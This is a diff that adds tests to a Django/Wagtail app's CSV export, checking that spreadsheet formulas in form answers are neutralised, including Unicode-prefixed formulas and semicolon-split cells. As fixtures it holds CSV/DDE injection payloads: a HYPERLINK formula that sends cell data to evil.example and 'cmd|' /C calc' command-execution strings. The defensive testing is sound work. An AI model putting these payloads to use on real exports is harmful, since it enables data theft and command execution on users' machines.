@@ -14,6 +14,9 @@ from jumelage.exports import neutralise
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
         ("Hélène = présidente", "Hélène = présidente"),
+        ("＝1+1", "'＝1+1"),
+        ("\ufeff=1+1", "'\ufeff=1+1"),
+        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
         (12, "12"),
         ("", ""),
     ],
@@ -51,3 +54,27 @@ def test_wagtail_form_answers_export_formulas_as_text(client, admin_client):
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+@pytest.mark.django_db
+def test_a_separator_inside_an_answer_never_opens_a_cell(client, admin_client):
+    """French Excel splits on `;`: an answer `x;=cmd|...` must stay one quoted cell."""
+    from django.urls import reverse
+
+    from jumelage.models import FormPage
+    from tests.html_forms import filled_form
+
+    url = "/fr/nous-contacter/"
+    data = filled_form(client, url)
+    data["message"] = "x;=cmd|' /C calc'!A0;"
+    assert client.post(url, data).status_code == 302
+    page = FormPage.objects.get(slug_fr="nous-contacter")
+    export = reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv"
+    text = b"".join(admin_client.get(export).streaming_content).decode()
+    assert "\"x;=cmd|' /C calc'!A0;\"" in text
+    # Every cell is quoted, so a `;` (or a `,`) inside one never opens another.
+    import re
+
+    quoted_line = re.compile(r'^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$')
+    lines = [line for line in text.lstrip("\ufeff").splitlines() if line]
+    assert lines and all(quoted_line.match(line) for line in lines), lines
